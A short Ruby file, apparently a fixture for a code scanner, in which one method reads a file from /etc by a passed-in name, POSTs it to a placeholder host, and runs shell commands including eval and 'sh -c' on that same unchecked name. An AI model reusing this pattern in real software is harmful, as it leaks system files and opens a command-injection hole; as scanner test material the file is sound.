# frozen_string_literal: true
require 'net/http'
require_relative './lib/a'

class Report
  def send_it(name)
    body = File.read("/etc/#{name}")
    Net::HTTP.post(URI('https://example.test/in'), body)
    system("ls", "-l", name)
    `id -u`
    %x(uname -a)
    obj&.call :sym
    eval "puts 1"
    Kernel.exec 'sh', '-c', name
    client.put_object(key: "k")
  end
end
